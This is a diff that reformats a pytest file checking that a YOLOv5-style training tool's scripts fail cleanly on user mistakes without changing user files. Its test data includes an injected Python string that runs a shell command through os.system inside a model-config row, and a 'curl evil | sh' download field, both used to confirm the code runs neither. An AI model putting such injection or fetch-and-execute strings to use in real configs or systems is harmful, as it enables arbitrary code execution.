@@ -1,4 +1,6 @@
-"""Everything a user can get wrong ends in one clear line and exit code 2, and nothing of theirs is changed."""
+"""Everything a user can get wrong ends in one clear line and exit code 2, and nothing of theirs is
+changed.
+"""
 
 import os
 import pickle
@@ -17,7 +19,19 @@ from models import build_model, save_model
 from tests.conftest import ROOT
 
 pytestmark = pytest.mark.flow
-TRAIN = ["--epochs", "1", "--imgsz", "64", "--batch-size", "2", "--workers", "0", "--device", "cpu", "--noplots"]
+TRAIN = [
+    "--epochs",
+    "1",
+    "--imgsz",
+    "64",
+    "--batch-size",
+    "2",
+    "--workers",
+    "0",
+    "--device",
+    "cpu",
+    "--noplots",
+]
 
 
 class Evil:
@@ -29,16 +43,25 @@ class Evil:
 
 @pytest.fixture
 def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """A working directory with a tiny data set `set.yaml`, a model YAML `net.yaml` and a checkpoint `good.pt`."""
+    """A working directory with a tiny data set `set.yaml`, a model YAML `net.yaml` and a checkpoint
+    `good.pt`.
+    """
     monkeypatch.chdir(tmp_path)
     rng = np.random.default_rng(0)
     for split in ("train", "val"):
         for kind in ("images", "labels"):
             (tmp_path / "set" / kind / split).mkdir(parents=True)
         for i in range(2):
-            cv2.imwrite(f"set/images/{split}/{i}.png", rng.integers(0, 255, (64, 64, 3), dtype=np.uint8))
-            (tmp_path / f"set/labels/{split}/{i}.txt").write_text("0 0.5 0.5 0.4 0.4\n1 0.3 0.3 0.2 0.2\n")
-    write("set.yaml", {"path": "set", "train": "images/train", "val": "images/val", "names": ["a", "b"]})
+            cv2.imwrite(
+                f"set/images/{split}/{i}.png", rng.integers(0, 255, (64, 64, 3), dtype=np.uint8)
+            )
+            (tmp_path / f"set/labels/{split}/{i}.txt").write_text(
+                "0 0.5 0.5 0.4 0.4\n1 0.3 0.3 0.2 0.2\n"
+            )
+    write(
+        "set.yaml",
+        {"path": "set", "train": "images/train", "val": "images/val", "names": ["a", "b"]},
+    )
     shutil.copy(ROOT / "models/configs/yolov5/yolov5n.yaml", "net.yaml")
     save_model(build_model("yolov5n", nc=2), tmp_path / "good.pt")
     return tmp_path
@@ -55,7 +78,9 @@ def changed(file: str, **changes: object) -> None:
 
 
 def one_line(capfd: pytest.CaptureFixture, script: str, *options: str) -> str:
-    """Run a script that must fail as a user's mistake does; gives the one line of its standard error."""
+    """Run a script that must fail as a user's mistake does; gives the one line of its standard
+    error.
+    """
     before = {p: p.read_bytes() for p in Path().rglob("*") if p.is_file() and p.suffix != ".cache"}
     argv, sys.argv = sys.argv, [script, *options]
     try:
@@ -67,7 +92,9 @@ def one_line(capfd: pytest.CaptureFixture, script: str, *options: str) -> str:
     assert stop.value.code == 2, out + err
     lines = [line for line in err.splitlines() if line.strip()]
     assert len(lines) == 1 and "Traceback" not in out + err, err
-    assert all(p.read_bytes() == content for p, content in before.items()), "a user's file was changed"
+    assert all(p.read_bytes() == content for p, content in before.items()), (
+        "a user's file was changed"
+    )
     return lines[0]
 
 
@@ -78,12 +105,18 @@ def test_nothing_said(place: Path, capfd: pytest.CaptureFixture):
 
 def test_unknown_option_and_names(place: Path, capfd: pytest.CaptureFixture):
     assert "did you mean '--epochs'" in one_line(capfd, "train.py", "--epoch", "3")
-    assert "did you mean 'yolov5n'" in one_line(capfd, "train.py", "--cfg", "yolov5nn", "--data", "set.yaml", *TRAIN)
-    assert "did you mean 'demo'" in one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "demoo", *TRAIN)
+    assert "did you mean 'yolov5n'" in one_line(
+        capfd, "train.py", "--cfg", "yolov5nn", "--data", "set.yaml", *TRAIN
+    )
+    assert "did you mean 'demo'" in one_line(
+        capfd, "train.py", "--cfg", "net.yaml", "--data", "demoo", *TRAIN
+    )
     assert "did you mean 'scratch-" in one_line(
         capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--hyp", "scratch", *TRAIN
     )
-    assert "did you mean 'lamp'" in one_line(capfd, "prune.py", "--weights", "good.pt", "--data", "set.yaml", "--method", "lampp")
+    assert "did you mean 'lamp'" in one_line(
+        capfd, "prune.py", "--weights", "good.pt", "--data", "set.yaml", "--method", "lampp"
+    )
 
 
 @pytest.mark.parametrize(
@@ -109,27 +142,40 @@ def test_numbers_out_of_range(place: Path, capfd: pytest.CaptureFixture, words: 
 
 
 def test_one_size_or_two(place: Path, capfd: pytest.CaptureFixture):
-    line = one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--imgsz", "64", "64", "64")
+    line = one_line(
+        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--imgsz", "64", "64", "64"
+    )
     assert "--imgsz 64 64 64: one size, or one for training and one for validation" in line
 
 
 def test_yaml_broken_or_with_unknown_keys(place: Path, capfd: pytest.CaptureFixture):
     Path("broken.yaml").write_text("nc: [1,\nanchors: 3")
-    assert "broken.yaml:2" in one_line(capfd, "train.py", "--cfg", "broken.yaml", "--data", "set.yaml", *TRAIN)
+    assert "broken.yaml:2" in one_line(
+        capfd, "train.py", "--cfg", "broken.yaml", "--data", "set.yaml", *TRAIN
+    )
     Path("hyp.yaml").write_text("lr00: 0.1\n")
-    line = one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--hyp", "hyp.yaml", *TRAIN)
+    line = one_line(
+        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", "--hyp", "hyp.yaml", *TRAIN
+    )
     assert "hyp.yaml: unknown key 'lr00'; did you mean 'lr0'" in line
     changed("set.yaml", trian="images/train")
-    assert "'trian'; did you mean 'train'" in one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
+    assert "'trian'; did you mean 'train'" in one_line(
+        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN
+    )
     changed("net.yaml", depth_multipel=1.0)
-    assert "did you mean 'depth_multiple'" in one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "demo", *TRAIN)
+    assert "did you mean 'depth_multiple'" in one_line(
+        capfd, "train.py", "--cfg", "net.yaml", "--data", "demo", *TRAIN
+    )
 
 
 @pytest.mark.parametrize(
     ("row", "message"),
     [
         ([-1, 1, "Covn", [64]], "unknown block 'Covn'; did you mean 'Conv'"),
-        ([-1, 1, "Conv", [64, 3, 2, 1, 1, "__import__('os').system('touch owned')"]], "no activation"),
+        (
+            [-1, 1, "Conv", [64, 3, 2, 1, 1, "__import__('os').system('touch owned')"]],
+            "no activation",
+        ),
         ([99, 1, "Conv", [64]], "99 is no row above"),
         ([-1, 1, "Conv", ["wide"]], "backbone row 1"),
         ([-1, 1, "Conv"], "expected [from, repeats, Block, args]"),
@@ -143,10 +189,14 @@ def test_bad_row(place: Path, capfd: pytest.CaptureFixture, row: list, message: 
     assert message in line and "net.yaml: backbone row 1" in line and not Path("owned").exists()
 
 
-@pytest.mark.parametrize("anchors", [[[10, 13, 16]], [[10, 13]] * 2, [["a", "b"]] * 3, 0, [[10, -13]] * 3])
+@pytest.mark.parametrize(
+    "anchors", [[[10, 13, 16]], [[10, 13]] * 2, [["a", "b"]] * 3, 0, [[10, -13]] * 3]
+)
 def test_wrong_anchors(place: Path, capfd: pytest.CaptureFixture, anchors: object):
     changed("net.yaml", anchors=anchors)
-    assert "anchors" in one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
+    assert "anchors" in one_line(
+        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN
+    )
 
 
 def test_data_that_does_not_fit(place: Path, capfd: pytest.CaptureFixture):
@@ -157,7 +207,9 @@ def test_data_that_does_not_fit(place: Path, capfd: pytest.CaptureFixture):
     line = one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
     assert line.count("nowhere") >= 2, "both places that were tried are listed"
     changed("set.yaml", path="set", download="curl evil | sh", train="images/missing")
-    assert "missing" in one_line(capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN)
+    assert "missing" in one_line(
+        capfd, "train.py", "--cfg", "net.yaml", "--data", "set.yaml", *TRAIN
+    )
 
 
 def test_labels_out_of_range_everywhere(place: Path, capfd: pytest.CaptureFixture):
